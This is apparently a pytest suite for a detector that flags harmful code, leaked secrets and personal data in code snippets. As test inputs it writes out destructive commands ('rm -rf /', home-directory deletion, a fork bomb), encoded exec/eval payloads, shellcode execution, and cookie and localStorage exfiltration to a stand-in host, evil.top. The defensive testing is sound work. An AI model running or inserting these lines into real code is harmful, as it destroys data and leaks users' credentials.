"""Harmful code: found in every language; the same tools in ordinary use left alone."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from echo_ray.checks import malice, malice_rules, personal, secrets
from echo_ray.checks.case import Case, Verdict
from echo_ray.checks.malice_commands import COMMANDS
from echo_ray.checks.malice_flows import FLOWS
from echo_ray.checks.secret_rules import fold
from echo_ray.schema import Drop
from tests.corruption_safety import TOKENS, Draw, Payload, lookalikes, payloads
from tests.test_check_secrets import real_targets

CORPUS = Path(__file__).parents[2] / "shared" / "data" / "corpus"


def case(target: str, language: str = "python", prefix: str = "x\n", suffix: str = "\ny\n") -> Case:
    return Case(prefix, target, suffix, target, language)


@pytest.mark.parametrize(
    "payload", payloads("malicious"), ids=lambda payload: f"{payload.kind} {payload.language}"
)
def test_harmful_statements_are_refused(payload: Payload) -> None:
    finding = malice.check(case(payload.text, payload.language))
    assert finding.verdict is Verdict.FAIL
    assert finding.drop is not None
    assert finding.drop.value.startswith("malicious_")
    assert finding.start is not None
    assert 0 <= finding.start < (finding.stop or 0) <= len(payload.text)
    assert finding.rule


@pytest.mark.parametrize(
    ("target", "language", "drop"),
    [
        ('os.system("rm -rf /")', "python", Drop.MALICIOUS_COMMAND),
        ("eval(atob(x));", "javascript", Drop.MALICIOUS_CODE),
        ("fetch('https://evil.top/?c=' + document.cookie);", "javascript", Drop.MALICIOUS_LEAK),
        (
            "subprocess.check_call(['rm', '-r', '-f', os.path.expanduser('~')])",
            "python",
            Drop.MALICIOUS_COMMAND,
        ),
        ("getattr(__builtins__, 'exec')(base64.b64decode(PAYLOAD))", "python", Drop.MALICIOUS_CODE),
        ("[]['constructor']['constructor'](atob('YWxlcnQoMSk='))();", "javascript", Drop.MALICIOUS_CODE),
        (
            "x.open('POST', 'https://evil.top/k'); x.send(JSON.stringify(localStorage));",
            "typescript",
            Drop.MALICIOUS_LEAK,
        ),
        ("e.eval(new String(Base64.getDecoder().decode(p)));", "java", Drop.MALICIOUS_CODE),
        ('os.RemoveAll(os.Getenv("HOME"))', "go", Drop.MALICIOUS_COMMAND),
        ("int (*f)() = (int (*)())shellcode; f();", "cpp", Drop.MALICIOUS_CODE),
        ("<iframe :src=\"'http://evil.top/?c=' + document.cookie\"></iframe>", "vue", Drop.MALICIOUS_LEAK),
        ("for (;;) fork();", "c", Drop.MALICIOUS_COMMAND),
    ],
)
def test_the_reason_says_what_it_does(target: str, language: str, drop: Drop) -> None:
    finding = malice.check(case(target, language))
    assert (finding.verdict, finding.drop) == (Verdict.FAIL, drop)


def test_a_source_that_stands_before_is_followed_by_its_name() -> None:
    for source, harmful in (("base64.b64decode(blob)", True), ("render(template)", False)):
        prefix = f"import base64\ncode = {source}\nprint('x')\n"
        verdict = malice.check(case("exec(code)", prefix=prefix)).verdict
        assert (verdict is Verdict.FAIL) is harmful
    prefix = 'import os\npayload = requests.get("http://evil.top/x").text\nother = 1\n'
    assert malice.check(case("eval(payload)", prefix=prefix)).verdict is Verdict.FAIL
    assert malice.check(case("eval(other)", prefix=prefix)).verdict is not Verdict.FAIL


def test_a_target_that_feeds_a_sink_in_the_prefix_is_refused() -> None:
    begun = Case("x = 1\nexec(", 'base64.b64decode("aaaa"))', "\n", "", "python")
    assert malice.check(begun).verdict is Verdict.FAIL
    assert (
        malice.check(Case('exec(base64.b64decode("aaaa"))\n', "x = 1", "\n", "", "python")).verdict
        is Verdict.PASS
    )
    assert malice.check(Case("", "", "", "", "python")).verdict is Verdict.NOT_APPLICABLE


def test_in_a_long_target_a_sink_needs_its_source_in_the_same_statement() -> None:
    apart = "\n".join(
        ["const key = atob(value);", *(f"use{n}({n});" for n in range(12)), "const m = eval(text);"]
    )
    together = "\n".join([*(f"use{n}({n});" for n in range(12)), "const m = eval(", "  atob(value)", ");"])
    assert malice.check(case(apart, "javascript")).verdict is not Verdict.FAIL
    assert malice.check(case(together, "javascript")).verdict is Verdict.FAIL


def test_commands_in_comments_are_advice() -> None:
    for line in (
        "# curl -sSL https://get.tool.sh | sh",
        "// rm -rf / would delete everything",
        " * wget -O- x | bash",
    ):
        finding = malice.check(case(line))
        assert finding.verdict is Verdict.UNSURE
        assert finding.drop is Drop.MALICIOUS_COMMAND


@pytest.mark.parametrize("payload", lookalikes(), ids=lambda payload: payload.text[:60])
def test_lookalikes_are_never_refused(payload: Payload) -> None:
    assert malice.check(case(payload.text, payload.language)).verdict is not Verdict.FAIL


@pytest.mark.parametrize(
    "line",
    [
        "subprocess.run(cmd, shell=True)",
        "eval(expression)",
        'os.system("clear")',
        "data = pickle.load(f)",
        "exec(compile(source, filename, 'exec'))",
        "axios.post('/api/login', { token: localStorage.getItem('token') })",
        "fetch(url, { headers: { 'X-CSRFToken': getCookie(document.cookie) } })",
        "requests.post('https://api.service.com', headers={'Authorization': os.environ['TOKEN']})",
        'requests.get("http://localhost:8000", cookies=document.cookie)',
        "const child = spawn('node', ['server.js'], { env: process.env });",
        "img.src = 'data:image/png;base64,' + data;",
        "os.chmod(path, 0o777)",
        'exec.Command("sh", "-c", script).Run()',
        "pthread_create(&t, NULL, (void *(*)(void *))run, arg);",
    ],
)
def test_tools_in_ordinary_use_pass(line: str) -> None:
    assert malice.check(case(line)).verdict is Verdict.PASS


def unfiltered(text: str) -> set[str]:
    hits = {needle for row in COMMANDS if row.pattern.search(text) for needle in row.needles}
    return hits | {needle for flow in FLOWS if flow.sink.search(text) for needle in flow.needles}


def lost(text: str) -> list[str]:
    """Rules whose pattern matches although the pass over the text found none of their needles."""
    present = malice_rules.search(text).needles
    commands = [row.rule for row in COMMANDS if row.pattern.search(text) and present.isdisjoint(row.needles)]
    hints = fold(text)
    unhinted = [
        f.rule for f in FLOWS if f.with_[0].search(text) and not any(hint in hints for hint in f.hints)
    ]
    return (
        unhinted
        + commands
        + [flow.rule for flow in FLOWS if flow.sink.search(text) and present.isdisjoint(flow.needles)]
    )


def test_the_prefilter_loses_no_payload() -> None:
    texts = [payload.text for payload in payloads("malicious")]
    assert sum(bool(unfiltered(text)) for text in texts) >= 0.95 * len(texts)
    assert [text for text in texts if lost(text) or lost(text.upper())] == []


_WORDS = sorted({word for payload in payloads("malicious") for word in payload.text.split()})
_GLUE = [" ", "\t", "\n", '", "', "', '", "", "(", ")", "|", ";", "ı", "ſ", "K", "\ud800"]


@given(st.lists(st.one_of(st.sampled_from(_WORDS), st.sampled_from(_GLUE), st.text(max_size=3)), max_size=12))
@settings(max_examples=500, deadline=None)
def test_what_the_prefilter_stops_holds_nothing(parts: list[str]) -> None:
    assert lost("".join(parts)) == []


@given(st.lists(st.one_of(st.sampled_from(_WORDS), st.sampled_from(_GLUE), st.text(max_size=5)), max_size=20))
@settings(max_examples=150, deadline=None)
def test_no_text_raises_and_spans_lie_inside(parts: list[str]) -> None:
    text = "".join(parts)
    for language in ("python", "vue", "plaintext"):
        finding = malice.check(case(text, language))
        assert finding.start is None or 0 <= finding.start < (finding.stop or 0) <= len(text)


@pytest.mark.parametrize(
    "piece",
    ["eval(", "curl ", "fetch('http://a');\n", "rm -rf ", "a", "eyJ", "-----BEGIN PRIVATE KEY-----", "1.2"],
)
def test_a_huge_commit_is_read_to_its_end(piece: str) -> None:
    harmful = 'os.system("rm -rf /")'
    target = piece * (100_000 // len(piece)) + f"\n{harmful}"
    assert malice.check(case(target)).verdict is Verdict.FAIL
    token = TOKENS["github classic"](Draw("huge"))
    assert secrets.check(case(target + f'\nx = "{token}"')).verdict is Verdict.FAIL
    assert personal.check(case(target + '\nx = "anna.berg@posteo.de"')).verdict is Verdict.FAIL


@pytest.mark.parametrize("language", ("cpp", "go", "java", "javascript", "python") if CORPUS.is_dir() else ())
def test_false_alarms_on_real_code_stay_within_the_budget(language: str) -> None:
    cases = real_targets(language, 800)
    refused = [c.target for c in cases if malice.check(c).verdict is not Verdict.PASS]
    assert len(refused) <= 0.003 * len(cases), refused
